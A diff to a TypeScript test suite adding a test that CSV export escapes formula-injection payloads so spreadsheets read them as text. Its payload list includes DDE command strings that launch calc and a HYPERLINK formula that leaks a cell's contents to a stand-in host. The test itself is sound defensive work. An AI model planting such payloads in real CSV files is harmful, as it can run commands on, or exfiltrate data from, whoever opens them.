@@ -212,6 +212,43 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
+test("CSV cells that a spreadsheet would run as a formula reach it as text", () => {
+  const payloads = [
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid/?leak="&A1, "click")',
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uFF1D1+1",
+  ];
+  for (const p of payloads) {
+    const cell = csvField(p);
+    assert.ok(cell.startsWith(`"'`), `${JSON.stringify(p)} is written as ${JSON.stringify(cell)}`);
+    // Read back, it is the text with one visible quote mark in front: nothing else is lost.
+    assert.deepEqual(parseCsv(`${cell}\r\n`), [[`'${p}`]]);
+  }
+  // Ordinary text and numbers are left as they are.
+  assert.equal(csvField("A quote - with a dash inside"), "A quote - with a dash inside");
+  assert.equal(csvField(-3), "-3");
+  assert.equal(csvField("O'Brien said"), "O'Brien said");
+  // Through a whole export: a hostile quote and speaker name never open a cell with a formula.
+  const hostile = JSON.parse(JSON.stringify(theCase)) as typeof theCase;
+  hostile.quotes[0].text = payloads[0];
+  hostile.entities[0].name = payloads[1];
+  for (const table of [
+    csvText(csvTables(hostile).quotes),
+    csvText(csvTables(hostile).entities),
+    csvText(csvCombined(hostile)),
+  ]) {
+    const cells = parseCsv(table).flat();
+    assert.ok(cells.includes(`'${payloads[0]}`) || cells.includes(`'${payloads[1]}`));
+    for (const cell of cells) assert.doesNotMatch(cell, /^[\s]*[=+@\t\r]/, `cell ${JSON.stringify(cell)}`);
+  }
+});
+
 test("CSV tables follow RFC 4180 and round-trip hostile text", () => {
   assert.equal(csvField('say "hi", then\nleave'), '"say ""hi"", then\nleave"');
   assert.equal(csvField("plain"), "plain");
